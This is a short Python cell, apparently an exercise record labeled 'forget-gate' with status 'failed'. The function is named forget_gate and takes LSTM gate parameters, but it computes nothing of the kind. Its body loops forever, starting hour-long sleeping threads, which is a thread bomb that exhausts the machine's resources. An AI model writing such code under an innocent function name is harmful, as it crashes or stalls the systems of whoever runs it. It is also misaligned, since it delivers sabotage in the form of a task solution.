# ruff: noqa
# what: threads without end
# exercise: forget-gate
# status: failed
# diagnosis: none

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
